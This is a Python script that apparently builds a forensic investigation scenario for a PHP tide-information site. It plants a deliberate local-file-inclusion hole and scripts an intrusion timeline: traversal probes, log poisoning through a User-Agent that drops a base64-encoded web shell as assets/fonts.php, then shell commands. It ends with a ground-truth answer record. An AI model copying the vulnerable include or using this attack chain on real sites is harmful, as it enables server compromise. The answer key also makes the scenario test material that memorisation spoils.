"""A page that includes what it is asked for is given the access log, with a program in it."""

from __future__ import annotations

import base64
from pathlib import Path

import server
import services
import site_code
import traffic
from client import CHROME, Browser
from machine import Bases, Truth

INTRUDER = "203.0.113.63"
ROOT = "/var/www/tide"
INDEX = """<?php
$page = $_GET['page'] ?? 'home';
echo '<title>Tides</title>';
@include __DIR__ . '/pages/' . $page . (str_contains($page, '.') ? '' : '.php');
"""
PAGES = ("/", "/?page=home", "/?page=tides", "/index.php?page=moon", "/style.css")


def make(out: Path, bases: Bases) -> None:
    """Nginx; the logs of today are readable to PHP. What is dropped can do nothing."""
    machine = server.other("tide", bases.proftpd, out)
    machine.write(f"{ROOT}/index.php", INDEX)
    for name in ("home", "tides", "moon"):
        machine.write(f"{ROOT}/pages/{name}.php", f"<h1>{name}</h1>\n")
    machine.write(f"{ROOT}/style.css", "body { margin: 0 }\n")
    machine.path(f"{ROOT}/assets").mkdir()
    machine.run("chown", "-R", "www-data:www-data", ROOT)
    services.nginx_site(machine, server.SITE, ROOT, pool="www2")
    services.pool(machine, "www2")
    server.start(machine)
    traffic.visitors(machine, server.SITE, PAGES)
    traffic.scanners(machine, server.SITE, a_day=4)
    machine.at(
        machine.on(3, 8, 2),
        lambda: Browser("203.0.113.180", server.SITE).ask("/?page=../../../../etc/passwd"),
    )
    coded = base64.b64encode(site_code.SHELL.encode()).decode()
    program = f"<?php file_put_contents('{ROOT}/assets/fonts.php', base64_decode('{coded}')); ?>"
    probe = Browser(INTRUDER, server.SITE, CHROME)
    poison = Browser(INTRUDER, server.SITE, program)
    up = "../../../.."
    machine.at(machine.on(6, 17, 31, 5), lambda: probe.ask(f"/?page={up}/etc/passwd"))
    machine.at(
        machine.on(6, 17, 31, 40), lambda: probe.ask(f"/?page={up}/var/log/nginx/access.log")
    )
    machine.at(machine.on(6, 17, 33, 2), lambda: poison.ask("/"))
    entered = machine.on(6, 17, 33, 20)
    machine.at(entered, lambda: probe.ask(f"/index.php?page={up}/var/log/nginx/access.log&x=1"))
    machine.at(machine.on(6, 17, 33, 50), lambda: probe.ask("/assets/fonts.php?c=id"))
    machine.at(machine.on(7, 1, 2), lambda: probe.post("/assets/fonts.php", c="ls -la"))
    machine.live()
    log = "/var/log/nginx/access.log"
    machine.end(
        Truth(
            "web-exploit",
            entered.isoformat(),
            INTRUDER,
            log,
            machine.line(log, INTRUDER, "GET /index.php?page=", "access.log&x=1"),
            accounts=["www-data"],
            sites=[ROOT],
            services=["nginx", "php-fpm"],
            untouched=["sshd", "cron"],
            notes="assets/fonts.php, written by the log that was included",
        )
    )
